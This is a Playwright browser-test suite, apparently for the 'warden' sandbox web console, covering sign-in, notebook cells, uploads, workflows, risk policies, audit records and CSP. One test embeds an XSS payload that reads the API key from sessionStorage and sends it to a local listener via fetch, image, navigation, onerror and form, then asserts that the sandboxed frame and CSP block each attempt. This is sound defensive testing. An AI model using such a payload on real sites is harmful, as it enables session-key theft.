// Browser tests of the warden web console (console/ui), in Debian's headless Chromium
// driven by playwright-core. Run: `npm test` here, with WARDEN_BIN (default
// ../../target/debug/warden) and CHROMIUM (default /usr/bin/chromium). Needs root, as
// warden's sandboxes do. Screenshots go to a temporary directory printed at the start.

import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync, mkdirSync, readdirSync } from 'node:fs';
import { join } from 'node:path';
import { REPO, WARDEN_BIN, CHROMIUM, createKey, startServer, startListener, tempDir, removeDir, launchBrowser } from './harness.mjs';

const CSP =
  "default-src 'none'; script-src 'self'; style-src 'self'; img-src 'self' data: blob:; connect-src 'self'; frame-src blob: data:; font-src 'self'; base-uri 'none'; form-action 'none'; frame-ancestors 'none'";
const FIXTURES = join(REPO, 'crates', 'warden-flow', 'tests', 'fixtures', 'valid');
const STEP = 30_000; // a bound for each wait in the page

let dataDir;
let server;
let listener;
let browser;
let context;
let page;
let shots;
const keys = {};
const requested = []; // every URL the browser asked for, with its headers
const consoleMessages = [];
const pageErrors = [];
// Chromium reports every CSP violation on the console. The tests cause some on purpose
// (the blocked image in a sandboxed frame, the injected inline script): those are kept
// here, and any other one fails the run.
const cspMessages = () => consoleMessages.filter((m) => /Content Security Policy/.test(m.text));
const expectedCsp = new Set();
const unexpectedCsp = () => cspMessages().filter((m) => !expectedCsp.has(m)).map((m) => m.text);

async function shot(name) {
  const path = join(shots, `${name}.png`);
  await page.screenshot({ path, fullPage: true });
  console.log(`# screenshot: ${path}`);
  return path;
}

async function signIn(key) {
  await page.goto(`${server.url}/ui/`);
  await page.getByTestId('api-key').fill(key);
  await page.getByTestId('sign-in').click();
  await page.getByTestId('nav-sessions').waitFor();
}

async function signOut() {
  await page.getByTestId('sign-out').click();
  await page.getByTestId('sign-in-form').waitFor();
}

/**
 * The text of a CodeMirror editor, read from its `.cm-content` (the element with the
 * editor's test id): its lines, without the placeholder shown in an empty editor.
 */
function editorText(content) {
  return content.evaluate((el) =>
    [...el.querySelectorAll('.cm-line')]
      .map((line) => {
        const copy = line.cloneNode(true);
        for (const p of copy.querySelectorAll('.cm-placeholder')) p.remove();
        return copy.textContent;
      })
      .join('\n'),
  );
}

/** Puts code into an editor as Playwright's fill does (select all, insert the text). */
async function fillCode(content, code) {
  await content.fill(code);
  assert.equal(await editorText(content), code, 'the editor holds the code as given');
}

/** The last cell of the notebook (the empty one the page keeps at the end). */
const lastCell = () => page.getByTestId('cell').last();

/** Types code into the last cell, runs it and waits for its result; returns the cell. */
async function runInNewCell(code, { wait = 'cell-result' } = {}) {
  // A fixed index: `.last()` would move on to the cell added below.
  const cell = page.getByTestId('cell').nth((await page.getByTestId('cell').count()) - 1);
  await fillCode(cell.getByTestId('cell-code'), code);
  await cell.getByTestId('run-cell').click();
  if (wait) await cell.getByTestId(wait).first().waitFor({ timeout: STEP });
  await page.getByTestId('add-cell').click();
  return cell;
}

async function downloadFrom(clickable) {
  const [dl] = await Promise.all([page.waitForEvent('download', { timeout: STEP }), clickable.click()]);
  const path = await dl.path();
  return { name: dl.suggestedFilename(), bytes: readFileSync(path) };
}

before(async () => {
  dataDir = tempDir('warden-console-test-');
  shots = join(dataDir, 'screenshots');
  mkdirSync(shots);
  console.log(`# warden: ${WARDEN_BIN}; chromium: ${CHROMIUM}; screenshots in ${shots}`);
  keys.user = createKey(dataDir, 'acme');
  keys.strict = createKey(dataDir, 'strict', { policy: { risk: { low: 'allow', medium: 'deny', high: 'deny' } } });
  keys.strictAdmin = createKey(dataDir, 'strict', { admin: true });
  server = await startServer(dataDir, ['--pool-size', '2', '--js-pool-size', '1', '--bash-pool-size', '1']);
  listener = await startListener();
  browser = await launchBrowser();
  context = await browser.newContext({ viewport: { width: 1360, height: 900 }, acceptDownloads: true });
  context.on('request', (r) => requested.push({ url: r.url(), headers: r.headers(), request: r }));
  context.on('requestfailed', (r) => {
    const rec = requested.find((x) => x.request === r);
    if (rec) rec.failure = r.failure()?.errorText || 'failed';
  });
  page = await context.newPage();
  page.setDefaultTimeout(STEP);
  page.on('console', (m) => consoleMessages.push({ type: m.type(), text: m.text() }));
  page.on('pageerror', (e) => pageErrors.push(e.message));
});

after(async () => {
  await browser?.close().catch(() => {});
  await listener?.close().catch(() => {});
  if (server) {
    const r = await server.stop();
    console.log(`# warden serve stopped (${r.code ?? r.signal})`);
  }
  if (process.env.KEEP_TEST_DIR) console.log(`# kept ${dataDir}`);
  else {
    // Keep the screenshots and the server's log; remove the server's data.
    for (const d of readdirSync(dataDir)) if (d !== 'screenshots' && d !== 'server.log') removeDir(join(dataDir, d));
  }
});

test('the page carries the strict CSP and a key is needed', async () => {
  const res = await page.goto(`${server.url}/ui/`);
  assert.equal(res.headers()['content-security-policy'], CSP);
  await page.getByTestId('sign-in-form').waitFor();
  await page.getByTestId('api-key').fill('wk_0000000000000000.deadbeef');
  await page.getByTestId('sign-in').click();
  const err = page.getByTestId('sign-in-form').getByTestId('error-code');
  await err.waitFor();
  assert.equal(await err.textContent(), 'UNAUTHORIZED');
  assert.equal(await page.evaluate(() => sessionStorage.getItem('warden.apiKey')), null, 'a refused key is not kept');
  await shot('sign-in');
});

test('sign in with a key; a non-admin key has no records page', async () => {
  await signIn(keys.user);
  assert.equal(await page.evaluate(() => sessionStorage.getItem('warden.apiKey')), keys.user);
  assert.equal(await page.evaluate(() => localStorage.length), 0, 'nothing in localStorage');
  assert.equal(await page.getByTestId('nav-records').count(), 0, 'no Records link for a non-admin key');
  await page.goto(`${server.url}/ui/#/records`);
  const code = page.locator('main').getByTestId('error-code');
  await code.waitFor();
  assert.equal(await code.textContent(), 'FORBIDDEN');
  assert.equal(await page.getByTestId('executions-table').count(), 0);
});

let sessionUrl;

test('a Python session: x = 41, then x + 1 shows 42', async () => {
  await page.goto(`${server.url}/ui/#/sessions`);
  await page.getByTestId('new-language').selectOption('python');
  await page.getByTestId('create-session').click();
  await page.getByTestId('cell-code').first().waitFor();
  sessionUrl = page.url();
  assert.match(sessionUrl, /#\/sessions\/ses_[0-9a-f]+$/);
  await runInNewCell('x = 41');
  // From the keyboard: Shift+Enter runs the cell and moves on to a new one.
  const n = await page.getByTestId('cell').count();
  const cell = page.getByTestId('cell').nth(n - 1);
  await cell.getByTestId('cell-code').focus();
  await page.keyboard.type('x + 1');
  await page.keyboard.press('Shift+Enter');
  await cell.getByTestId('value').waitFor();
  assert.equal((await cell.getByTestId('value').textContent()).replace(/\s+/g, ''), 'Out[2]:42');
  assert.equal(await cell.getByTestId('cell-count').textContent(), '[2]:');
  assert.equal(await page.getByTestId('cell').count(), n + 1);
  // The editor is CodeMirror, in every cell.
  const cells = page.getByTestId('cell');
  for (let i = 0; i < (await cells.count()); i++) {
    assert.equal(await cells.nth(i).locator('.cm-editor').count(), 1, `cell ${i} has a CodeMirror editor`);
    assert.equal(await cells.nth(i).locator('.cm-editor .cm-gutters .cm-lineNumbers').count(), 1, `cell ${i} has line numbers`);
  }
  // The editor indents after a colon; Tab and Shift+Tab indent and dedent.
  const next = cells.nth(n);
  const code = next.getByTestId('cell-code');
  assert.equal(await code.evaluate((el) => el === document.activeElement && el.classList.contains('cm-content')), true);
  await page.keyboard.type('if x:');
  await page.keyboard.press('Enter');
  assert.equal(await editorText(code), 'if x:\n    ');
  await page.keyboard.type('y = 1');
  await page.keyboard.press('Tab');
  assert.equal(await editorText(code), 'if x:\n        y = 1');
  await page.keyboard.press('Shift+Tab');
  assert.equal(await editorText(code), 'if x:\n    y = 1');
  await page.keyboard.press('Shift+Tab');
  assert.equal(await editorText(code), 'if x:\ny = 1');
  // Undo and redo (Ctrl+Z, Ctrl+Y: the tests run on Linux).
  await page.keyboard.press('Control+z');
  assert.equal(await editorText(code), 'if x:\n    y = 1');
  await page.keyboard.press('Control+y');
  assert.equal(await editorText(code), 'if x:\ny = 1');
  // Brackets close themselves and the pair under the cursor is marked.
  await page.keyboard.press('Enter');
  await page.keyboard.type('print(');
  assert.equal(await editorText(code), 'if x:\ny = 1\nprint()');
  assert.equal(await next.locator('.cm-matchingBracket').count(), 2);
  // Python is highlighted: `if` is a keyword, in style.css's colour.
  const keyword = next.locator('.cm-line .tok-keyword').first();
  assert.equal(await keyword.textContent(), 'if');
  assert.equal(await keyword.evaluate((el) => getComputedStyle(el).color), 'rgb(122, 62, 175)');
  // Typing over a selection that spans lines replaces it, and nothing more.
  await page.keyboard.press('ControlOrMeta+a');
  await page.keyboard.type('z');
  assert.equal(await editorText(code), 'z');
  await page.keyboard.type(' = 2');
  // Escape, then Tab moves the focus out of the editor (to the cell's Run button).
  await page.keyboard.press('Escape');
  await page.keyboard.press('Tab');
  assert.equal(await page.evaluate(() => document.activeElement?.dataset.testid), 'run-cell');
  await code.fill('');
  assert.equal(await editorText(code), '');
  // CodeMirror's style rules are a constructable style sheet, not a <style> (the CSP
  // allows no inline style element), and they apply.
  assert.equal(await page.locator('style').count(), 0, 'no <style> element');
  assert.ok((await page.evaluate(() => document.adoptedStyleSheets.length)) >= 1, 'an adopted style sheet');
  assert.equal(await next.locator('.cm-editor').evaluate((el) => getComputedStyle(el).display), 'flex');
  assert.deepEqual(unexpectedCsp(), [], 'no CSP violation');
});

test('a matplotlib figure shows as a PNG <img>', async () => {
  const cell = await runInNewCell(
    'import matplotlib\nmatplotlib.use("Agg")\nimport matplotlib.pyplot as plt\nplt.plot([1, 3, 2, 4])\nplt.title("warden")\nprint("plotted")',
    { wait: 'image-output' },
  );
  const img = cell.getByTestId('image-output');
  assert.match(await img.getAttribute('src'), /^data:image\/png;base64,iVBORw0KGgo/);
  await page.waitForFunction((el) => el.complete && el.naturalWidth > 100, await img.elementHandle());
  assert.match(await cell.getByTestId('stdout').textContent(), /plotted/);
  await shot('notebook');
});

test('export the notebook, open it again and see the replayed cells', async () => {
  const { name, bytes } = await downloadFrom(page.getByTestId('export-notebook'));
  assert.match(name, /^ses_[0-9a-f]+\.ipynb$/);
  const nb = JSON.parse(bytes.toString('utf8'));
  assert.equal(nb.nbformat, 4);
  const sources = nb.cells.map((c) => (Array.isArray(c.source) ? c.source.join('') : c.source));
  assert.deepEqual(sources.slice(0, 2), ['x = 41', 'x + 1']);

  await page.goto(`${server.url}/ui/#/sessions`);
  await page.getByTestId('sessions-table').waitFor();
  // The list: language, template, state, age and the memory the sandbox uses now.
  const listed = page.locator(`[data-testid=sessions-table] tbody tr[data-session="${sessionUrl.split('/').pop()}"]`);
  await listed.waitFor();
  assert.match(await listed.textContent(), /python\s*base\s*idle/);
  assert.match(await listed.getByTestId('session-memory').textContent(), /^\d+(\.\d+)? MiB$/);
  await shot('sessions');
  await page.getByTestId('open-notebook-file').setInputFiles({ name, mimeType: 'application/x-ipynb+json', buffer: bytes });
  await page.getByTestId('replay-summary').waitFor({ timeout: STEP });
  assert.notEqual(page.url(), sessionUrl, 'a new session');
  const replayed = page.getByTestId('replayed-cell');
  assert.equal(await replayed.count(), 3);
  assert.equal(await editorText(replayed.nth(0).getByTestId('cell-code')), 'x = 41');
  assert.equal((await replayed.nth(1).getByTestId('value').textContent()).replace(/\s+/g, ''), 'Out[2]:42');
  assert.match(await replayed.nth(2).getByTestId('image-output').getAttribute('src'), /^data:image\/png;base64,/);
  await shot('notebook-opened');
  await page.goto(sessionUrl);
  await page.locator('[data-testid=cells][data-loaded=true]').waitFor();
});

test('upload files (input and drag and drop) and read them from code', async () => {
  // The notebook page loads the session's history: the cells run so far are back.
  assert.ok((await page.getByTestId('cell').count()) >= 4);
  await page.getByTestId('upload-input').setInputFiles({ name: 'hello.txt', mimeType: 'text/plain', buffer: Buffer.from('hello from the browser\n') });
  await page.getByTestId('file-hello.txt').waitFor();
  await page.evaluate(() => {
    const dt = new DataTransfer();
    dt.items.add(new File(['dropped,1\n'], 'dropped.csv', { type: 'text/csv' }));
    const zone = document.querySelector('[data-testid=dropzone]');
    for (const type of ['dragenter', 'dragover', 'drop']) zone.dispatchEvent(new DragEvent(type, { bubbles: true, cancelable: true, dataTransfer: dt }));
  });
  await page.getByTestId('file-dropped.csv').waitFor();
  const cell = await runInNewCell("print(open('hello.txt').read().strip(), '|', open('dropped.csv').read().strip())", { wait: 'stdout' });
  assert.equal((await cell.getByTestId('stdout').textContent()).trim(), 'hello from the browser | dropped,1');
});

test('download a CSV the code wrote (the bytes are the file)', async () => {
  const expected = 'n,square\n0,0\n1,1\n2,4\n3,9\n';
  await runInNewCell(
    "import csv\nwith open('squares.csv', 'w', newline='') as f:\n    w = csv.writer(f, lineterminator='\\n')\n    w.writerow(['n', 'square'])\n    w.writerows((i, i * i) for i in range(4))",
  );
  const entry = page.getByTestId('download-squares.csv');
  await entry.waitFor();
  const { name, bytes } = await downloadFrom(entry);
  assert.equal(name, 'squares.csv');
  assert.equal(bytes.toString('utf8'), expected);
});

test('interrupt `while True: pass` and see KeyboardInterrupt', async () => {
  const cell = page.getByTestId('cell').nth((await page.getByTestId('cell').count()) - 1);
  await fillCode(cell.getByTestId('cell-code'), "print('spinning', flush=True)\nwhile True:\n    pass");
  await cell.getByTestId('run-cell').click();
  await cell.getByTestId('stdout').filter({ hasText: 'spinning' }).waitFor();
  assert.equal(await page.getByTestId('session-info').getByTestId('status').textContent(), 'busy');
  await page.getByTestId('interrupt').click();
  const name = cell.getByTestId('error-name');
  await name.waitFor();
  assert.equal(await name.textContent(), 'KeyboardInterrupt');
  assert.equal(await cell.getByTestId('failing-line').getAttribute('data-line'), '2');
  await page.getByTestId('add-cell').click();
  // The session goes on.
  const next = await runInNewCell('x * 2', { wait: 'value' });
  assert.match(await next.getByTestId('value').textContent(), /82/);
});

test('HTML output cannot run script, read the key or reach out; printed markup is text', async () => {
  const before = listener.hits.length;
  const titleBefore = await page.title();
  const target = `http://127.0.0.1:${listener.port}`;
  const payload = [
    '<b id="shown">static html shown</b>',
    '<script>',
    "try { parent.document.title = 'PWNED'; } catch (e) {}",
    "try { document.title = 'PWNED-frame'; } catch (e) {}",
    "let k = 'none'; try { k = parent.sessionStorage.getItem('warden.apiKey'); } catch (e) { try { k = sessionStorage.getItem('warden.apiKey'); } catch (e2) {} }",
    `fetch('${target}/steal?k=' + encodeURIComponent(k)).catch(() => {});`,
    `new Image().src = '${target}/img?k=' + encodeURIComponent(k);`,
    `try { top.location = '${target}/nav?k=' + encodeURIComponent(k); } catch (e) {}`,
    '</script>',
    `<img src="x" onerror="fetch('${target}/onerror')">`,
    `<img src="${target}/plain-img">`,
    `<form action="${target}/form" method="post"><input name="a" value="1"></form>`,
  ].join('\n');
  const code = `class Evil:\n    def _repr_html_(self):\n        return ${JSON.stringify(payload)}\nprint('<script>document.title = "PWNED-stdout"</script>')\nEvil()`;
  const cell = await runInNewCell(code, { wait: 'html-output' });
  const frame = cell.getByTestId('html-output');
  assert.equal(await frame.getAttribute('sandbox'), '', 'sandbox="" (no allow-scripts, no allow-same-origin)');
  // The frame rendered its HTML (Playwright reads it through the debugger, not the page).
  const handle = await frame.elementHandle();
  const content = await handle.contentFrame();
  await content.waitForSelector('#shown');
  // Printed markup is text in the page, and no script element came with it.
  assert.match(await cell.getByTestId('stdout').textContent(), /<script>document\.title/);
  assert.equal(await page.locator('main script').count(), 0);
  await page.waitForTimeout(1500);
  assert.equal(await page.title(), titleBefore, 'the frame did not change the page title');
  assert.notEqual(await content.title(), 'PWNED-frame', 'no script ran inside the frame either');
  assert.equal(listener.hits.length, before, `the listener got ${JSON.stringify(listener.hits.slice(before))}`);
  // A plain <img> is not a script: Chromium may start it, and the frame's inherited CSP
  // (img-src 'self' data: blob:) refuses it before it leaves the browser.
  const asked = requested.filter((r) => r.url.startsWith(target));
  for (const r of asked) assert.ok(r.url.endsWith('/plain-img') && r.failure === 'csp', `${r.url}: ${r.failure}`);
  assert.ok(page.url().startsWith(server.url), 'the page was not navigated away');
  for (const m of cspMessages()) if (m.text.includes(target)) expectedCsp.add(m);
  await shot('html-output-sandboxed');
});

test('the page CSP blocks an injected inline script', async () => {
  assert.deepEqual(unexpectedCsp(), [], 'no CSP violation before this test');
  const seen = new Set(cspMessages());
  const result = await page.evaluate(
    () =>
      new Promise((resolve) => {
        const violations = [];
        document.addEventListener('securitypolicyviolation', (e) => violations.push(e.violatedDirective));
        const s = document.createElement('script');
        s.textContent = 'window.__inlineRan = true;';
        document.body.append(s);
        const d = document.createElement('div');
        d.setAttribute('onclick', 'window.__handlerRan = true');
        document.body.append(d);
        d.click();
        setTimeout(() => resolve({ ran: window.__inlineRan === true, handler: window.__handlerRan === true, violations }), 300);
      }),
  );
  assert.equal(result.ran, false, 'the inline script did not run');
  assert.equal(result.handler, false, 'the inline handler did not run');
  assert.ok(result.violations.some((v) => v.startsWith('script-src')), `violations: ${result.violations}`);
  assert.ok(consoleMessages.some((m) => /Content Security Policy/.test(m.text)), 'Chromium reported the violation');
  await page.waitForTimeout(200);
  for (const m of cspMessages()) if (!seen.has(m)) expectedCsp.add(m);
});

test('a syntax error shows its code and line; Restart starts afresh', async () => {
  const bad = await runInNewCell('y = [1, 2\nprint(y)', { wait: 'error' });
  assert.equal(await bad.getByTestId('error-code').textContent(), 'SYNTAX_ERROR');
  assert.match(await bad.getByTestId('error').textContent(), /at line \d+, column \d+/);
  await page.getByTestId('restart').click();
  await page.getByTestId('restarted').waitFor();
  const gone = await runInNewCell('x', { wait: 'traceback' });
  assert.equal(await gone.getByTestId('error-name').textContent(), 'NameError');
  assert.equal(await gone.getByTestId('cell-count').textContent(), '[1]:');
  // A restart is a fresh sandbox: the workspace starts empty again.
  await page.getByTestId('files-empty').waitFor();
});

test('run once: a card with stdout, the value and the files it created', async () => {
  await page.goto(`${server.url}/ui/#/run`);
  // The editor follows the language: an untouched sample is swapped, and highlighted.
  const runCode = page.getByTestId('run-code');
  await page.getByTestId('run-language').selectOption('bash');
  assert.match(await editorText(runCode), /^echo "hello from/);
  assert.match(await runCode.locator('.tok-string').first().textContent(), /^"hello from/);
  await page.getByTestId('run-language').selectOption('python');
  assert.match(await editorText(runCode), /^import csv/);
  assert.ok((await runCode.locator('.tok-keyword').count()) > 0);
  await page.getByTestId('run-timeout').fill('20');
  await page.getByTestId('run-memory').fill('256');
  await fillCode(page.getByTestId('run-code'), "open('report.txt', 'w').write('made in a fresh sandbox\\n')\nprint('one-shot', input_data['n'])\n6 * 7");
  await page.getByTestId('run-input').fill('{"n": 7}');
  await page.getByTestId('run-submit').click();
  const card = page.getByTestId('run-result').first();
  await card.waitFor();
  assert.equal(await card.getAttribute('data-status'), 'ok');
  assert.match(await card.getByTestId('stdout').textContent(), /one-shot 7/);
  assert.match(await card.getByTestId('value').textContent(), /42/);
  const { name, bytes } = await downloadFrom(card.getByTestId('download-created-report.txt'));
  assert.equal(name, 'report.txt');
  assert.equal(bytes.toString('utf8'), 'made in a fresh sandbox\n');
  await shot('run-once');
});

test('save a YAML workflow and run it: every node turns green', async () => {
  await page.goto(`${server.url}/ui/#/workflows`);
  const yaml = readFileSync(join(FIXTURES, 'js_python_handoff.yaml'), 'utf8');
  const input = readFileSync(join(FIXTURES, 'js_python_handoff.input.json'), 'utf8');
  await page.getByTestId('workflow-definition').fill(yaml);
  await page.getByTestId('workflows-table-empty').waitFor();
  await shot('workflows');
  await page.getByTestId('save-workflow').click();
  await page.getByTestId('wf-graph').waitFor();
  assert.match(page.url(), /#\/workflows\/js_python_handoff$/);
  const nodes = ['start', 'tokenize', 'score', 'format', 'end'];
  for (const n of nodes) assert.equal(await page.getByTestId(`wf-node-${n}`).getAttribute('data-status'), 'idle');
  await page.getByTestId('run-input').fill(input);
  await page.getByTestId('run-workflow').click();
  await page.locator('[data-testid=run-status][data-status=ok]').waitFor({ timeout: 60_000 });
  for (const n of nodes) assert.equal(await page.getByTestId(`wf-node-${n}`).getAttribute('data-status'), 'ok', `node ${n}`);
  const greens = await page.locator('.wf-node.st-ok rect').evaluateAll((rs) => rs.map((r) => getComputedStyle(r).fill));
  assert.equal(greens.length, nodes.length);
  for (const f of greens) assert.equal(f, 'rgb(201, 236, 212)');
  assert.equal(await page.getByTestId('trace-table').locator('tbody tr').count(), nodes.length);
  assert.match(await page.getByTestId('run-output').textContent(), /best review: #3/);
  await page.getByTestId('wf-node-score').click();
  assert.match(await page.getByTestId('node-detail').textContent(), /scored 4 reviews/);
  await shot('workflow');
});

test('a policy that denies medium risk refuses subprocess, with its findings', async () => {
  await signOut();
  await signIn(keys.strict);
  await page.goto(`${server.url}/ui/#/run`);
  await fillCode(page.getByTestId('run-code'), "import subprocess\nsubprocess.run(['id'])");
  await page.getByTestId('run-submit').click();
  const err = page.locator('main').getByTestId('error').first();
  await err.waitFor();
  assert.equal(await err.getByTestId('error-code').textContent(), 'SECURITY_VIOLATION');
  const rules = await err.getByTestId('finding-rule').allTextContents();
  assert.deepEqual(rules, ['import.process', 'process.spawn']);
  // Low risk runs, and its record keeps its finding.
  await fillCode(page.getByTestId('run-code'), "import os\nprint(os.getcwd())");
  await page.getByTestId('run-submit').click();
  await page.getByTestId('run-result').first().waitFor();
  assert.match(await page.getByTestId('run-result').first().getByTestId('stdout').textContent(), /\/workspace/);
  await shot('refused');
});

test('as admin: the records show the run and its finding, the audit log the refusal', async () => {
  await signOut();
  await signIn(keys.strictAdmin);
  await page.getByTestId('nav-records').click();
  const table = page.getByTestId('executions-table');
  await table.waitFor();
  // An admin key sees every tenant's records; the tenant filter narrows them.
  const tenants = async () => [...new Set(await table.locator('tbody tr td:nth-child(2)').allTextContents())].sort();
  assert.deepEqual(await tenants(), ['acme', 'strict']);
  await page.getByTestId('filter-tenant').fill('strict');
  await page.getByTestId('apply-filters').click();
  await page.waitForFunction(() => [...document.querySelectorAll('[data-testid=executions-table] tbody tr td:nth-child(2)')].every((td) => td.textContent === 'strict'));
  const row = table.locator('tbody tr').first();
  assert.equal(await row.getAttribute('data-risk'), 'low');
  assert.equal(await row.getAttribute('data-status'), 'ok');
  // Medium or higher (asked of the server): the refused subprocess run, and nothing else.
  await page.getByTestId('filter-risk').selectOption('medium');
  await page.waitForFunction(() => document.querySelectorAll('[data-testid=executions-table] tbody tr[data-risk=low]').length === 0);
  const refused = table.locator('tbody tr').first();
  assert.equal(await refused.getAttribute('data-status'), 'refused');
  assert.equal(await refused.getAttribute('data-risk'), 'medium');
  assert.equal(await table.locator('tbody tr').count(), 1);
  await refused.locator('a').first().click();
  let detail = page.getByTestId('execution-detail');
  await detail.getByTestId('execution-code').waitFor();
  assert.match(await detail.getByTestId('refused-note').textContent(), /nothing ran/);
  assert.match(await detail.getByTestId('execution-code').textContent(), /import subprocess/);
  assert.deepEqual(await detail.getByTestId('finding-rule').allTextContents(), ['import.process', 'process.spawn']);
  await shot('refused-record');
  await page.goBack();
  await page.getByTestId('filter-risk').selectOption('');
  await page.waitForFunction(() => document.querySelectorAll('[data-testid=executions-table] tbody tr[data-risk=low]').length > 0);
  await table.locator('tbody tr[data-risk=low] a').first().click();
  detail = page.getByTestId('execution-detail');
  await detail.getByTestId('execution-code').waitFor();
  assert.match(await detail.getByTestId('execution-code').textContent(), /import os/);
  assert.deepEqual(await detail.getByTestId('finding-rule').allTextContents(), ['import.system']);
  assert.equal(await detail.getByTestId('refused-note').count(), 0);
  await shot('execution-record');

  await page.getByTestId('tab-audit').click();
  await page.getByTestId('audit-action').selectOption('policy.denied');
  await page.getByTestId('audit-apply').click();
  const denied = page.locator('[data-testid=audit-table] tbody tr[data-code=SECURITY_VIOLATION]').first();
  await denied.waitFor();
  assert.equal(await denied.getAttribute('data-action'), 'policy.denied');
  assert.deepEqual(await denied.getByTestId('denied-rule').allTextContents(), ['import.process', 'process.spawn']);
  assert.match(await denied.getByTestId('denied-message').textContent(), /denies code of risk level medium/);
  await shot('audit');
  // The refusal's audit entry links to its record.
  await denied.getByTestId('denied-record').click();
  await page.getByTestId('refused-note').waitFor();
});

test('health: status, pools, templates and the policy in force', async () => {
  await page.getByTestId('nav-health').click();
  await page.getByTestId('health-status').waitFor();
  assert.equal(await page.getByTestId('health-status').textContent(), 'ok');
  await page.getByTestId('pools-table').waitFor();
  assert.match(await page.getByTestId('pools-table').textContent(), /python/);
  await page.getByTestId('policy-medium').waitFor();
  assert.equal(await page.getByTestId('policy-low').textContent(), 'allow');
  assert.equal(await page.getByTestId('policy-medium').textContent(), 'deny');
  assert.equal(await page.getByTestId('policy-high').textContent(), 'deny');
  await page.getByTestId('templates').locator('p, table').first().waitFor();
  // The limits in force: the server's flags and the caller's policy.
  await page.getByTestId('server-limits').waitFor();
  assert.match(await page.getByTestId('server-limits').textContent(), /Live sessions \(--max-sessions\)256/);
  assert.match(await page.getByTestId('policy-tenant').textContent(), /strict · admin key/);
  assert.deepEqual(JSON.parse(await page.getByTestId('policy-json').textContent()), { risk: { low: 'allow', medium: 'deny', high: 'deny' } });
  // warden doctor's report, for an admin key.
  await page.getByTestId('full-isolation').waitFor();
  assert.equal(await page.getByTestId('full-isolation').textContent(), 'full isolation');
  for (const check of ['data directory', 'network egress']) {
    assert.equal(await page.locator(`[data-testid=isolation-checks] tbody tr[data-check="${check}"]`).getAttribute('data-ok'), 'true', check);
  }
  await shot('health');
  // A key that is not an admin key sees the limits but not the host's report.
  await signOut();
  await signIn(keys.strict);
  await page.getByTestId('nav-health').click();
  await page.getByTestId('isolation-forbidden').waitFor();
  assert.match(await page.getByTestId('policy-tenant').textContent(), /^Tenant strict$/);
});

test('the key only ever travelled in the Authorization header', async () => {
  const secrets = Object.values(keys).flatMap((k) => [k, k.split('.')[1]]);
  const leaks = requested.filter((r) => secrets.some((s) => decodeURIComponent(r.url).includes(s)));
  assert.deepEqual(leaks.map((r) => r.url), [], 'no key in any URL');
  const v1 = requested.filter((r) => new URL(r.url).pathname.startsWith('/v1/'));
  const sent = v1.filter((r) => r.headers.authorization);
  assert.ok(sent.length > 20, `${sent.length} API requests with a key`);
  for (const r of sent) assert.match(r.headers.authorization, /^Bearer wk_[0-9a-f]+\.[0-9a-f]+$/);
  // Without a key: only the first probe of each page load (does the server need one?).
  for (const r of v1.filter((x) => !x.headers.authorization)) assert.equal(new URL(r.url).pathname, '/v1/sessions');
  const metrics = requested.filter((r) => new URL(r.url).pathname === '/metrics');
  for (const r of metrics) assert.equal(r.headers.authorization, undefined, 'no key where none is needed');
  assert.deepEqual(pageErrors, [], 'no uncaught errors in the page');
  assert.deepEqual(unexpectedCsp(), [], 'no CSP violation but the ones the tests cause');
});

test('development mode needs no key', async () => {
  const devDir = tempDir('warden-console-dev-');
  const dev = await startServer(devDir, ['--dev', '--pool-size', '1', '--js-pool-size', '0', '--bash-pool-size', '0']);
  try {
    const p = await context.newPage();
    await p.goto(`${dev.url}/ui/#/sessions`);
    await p.getByTestId('who').waitFor({ timeout: STEP });
    assert.equal(await p.getByTestId('who').textContent(), 'development mode');
    assert.equal(await p.getByTestId('sign-in-form').count(), 0);
    assert.equal(await p.getByTestId('sign-out').count(), 0);
    await p.getByTestId('nav-records').waitFor({ timeout: STEP }); // dev is an admin
    await p.close();
  } finally {
    await dev.stop();
    removeDir(devDir);
  }
});
